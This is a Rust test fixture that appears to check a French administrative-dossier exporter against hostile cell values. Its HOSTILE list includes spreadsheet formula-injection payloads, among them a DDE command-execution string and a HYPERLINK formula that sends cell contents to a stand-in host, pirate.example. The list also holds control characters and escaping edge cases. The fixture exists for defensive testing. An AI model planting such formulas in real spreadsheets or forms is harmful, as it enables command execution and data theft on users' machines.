//! A démarche and dossiers in which everything is hostile.

use std::collections::BTreeMap;

use greffier::domain::samples::{self, Texts};
use greffier::domain::{Demarche, Dossier, DossierId, Valeur};
use jiff::civil::Date;

/// What somebody may write into a form to have it calculated, cut or misread.
pub(super) const HOSTILE: [&str; 16] = [
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1",
    "-1+2",
    "@SUM(1;2)",
    "\t=2+3",
    " =2+3",
    "=HYPERLINK(\"https://pirate.example/?\"&A1;\"Cliquez\")",
    "un;deux\"trois\",quatre",
    "première ligne\ndeuxième; ligne\n\n=quatrième",
    "  deux espaces  au milieu, \tun tab et la fin ",
    "nul\0 et sonnerie\u{7} et \u{ffff}",
    "_x0041_ &amp; <b>&#0;</b> ]]>",
    "01 02 03 04 05",
    "2024-06-03",
    "NA",
];

/// The démarche: labels that are the same, too long, and full of what sheets may not be called.
pub(super) fn demarche() -> Demarche {
    let repetition = |id: &str, libelle: &str| {
        format!(
            "[[champ]]\nid = \"{id}\"\nlibelle = \"{libelle}\"\ntype = \"repetition\"\n\
             [[champ.champ]]\nid = \"entreprise\"\nlibelle = \"Entreprise\"\ntype = \"text\"\n\
             [[champ.champ]]\nid = \"montant\"\nlibelle = \"Montant\"\ntype = \"decimal_number\"\n"
        )
    };
    let champ = |table: &str, id: &str, libelle: &str, kind: &str| {
        format!("[[{table}]]\nid = \"{id}\"\nlibelle = \"{libelle}\"\ntype = \"{kind}\"\n")
    };
    let text = [
        "number = 12\ntitre = \"Travaux <en> site & abords\"\nservice = \"DDT\"\n".to_owned(),
        "[[groupe]]\nlabel = \"Littoral\"\ninstructeurs = [\"ines.roux@ddt-nord.example\"]\n"
            .into(),
        champ("champ", "titre", "Un titre", "header_section"),
        champ("champ", "texte", "=Texte", "textarea"),
        champ("champ", "telephone", "Téléphone", "phone"),
        champ("champ", "siret", "SIRET", "siret"),
        champ("champ", "surface", "Surface", "decimal_number"),
        champ("champ", "nombre", "Nombre", "integer_number"),
        champ("champ", "debut", "Début", "date"),
        champ("champ", "ancien", "Ancien", "date"),
        champ("champ", "oui", "Surface", "yes_no"),
        champ("champ", "choix", "Choix", "multiple_drop_down_list")
            + "options = [\"Toit\", \"Murs\"]\n",
        repetition("a", "Entreprises [1]: qui feront les travaux/ouvrages?"),
        repetition("b", "Entreprises [1]: qui feront les travaux/autres"),
        repetition("c", "Dossiers"),
        champ("annotation", "interne", "surface", "text"),
    ];
    toml::from_str(&text.concat()).unwrap()
}

/// The dossiers, one for each hostile text.
pub(super) fn dossiers() -> Vec<Dossier> {
    let texts = HOSTILE.iter().map(|text| (*text).to_owned());
    let long = ["é".repeat(100_000), "=".repeat(40_000)];
    texts
        .chain(long)
        .zip(1..)
        .map(|(text, number)| dossier(number, &text))
        .collect()
}

fn dossier(number: u64, text: &str) -> Dossier {
    let (_, mut dossier) = samples::dossiers(&Texts {
        avis: text.to_owned(),
        motivation: text.to_owned(),
        ..Texts::default()
    })
    .into_iter()
    .max_by_key(|(_, dossier)| dossier.avis.len())
    .unwrap();
    dossier.number = DossierId(number);
    let row = |montant| {
        BTreeMap::from([
            ("entreprise".to_owned(), Valeur::Text(text.to_owned())),
            ("montant".to_owned(), Valeur::Decimal(montant)),
        ])
    };
    dossier.champs = [
        ("texte", Valeur::Text(text.to_owned())),
        ("telephone", Valeur::Text("0320000000".into())),
        ("siret", Valeur::Text("00032932000007".into())),
        ("surface", Valeur::Decimal(-12.5)),
        ("nombre", Valeur::Integer(1_234_567)),
        ("debut", Valeur::Date(Date::constant(2024, 6, 3))),
        ("ancien", Valeur::Date(Date::constant(1789, 7, 14))),
        ("oui", Valeur::YesNo(true)),
        ("choix", Valeur::Choices(vec!["Toit".into(), "Murs".into()])),
        ("a", Valeur::Rows(vec![row(1.25), row(-2.0)])),
        ("b", Valeur::Rows(vec![row(3.0)])),
    ]
    .map(|(id, valeur)| (id.to_owned(), valeur))
    .into();
    dossier.annotations = BTreeMap::from([("interne".to_owned(), Valeur::Text(text.to_owned()))]);
    dossier
}
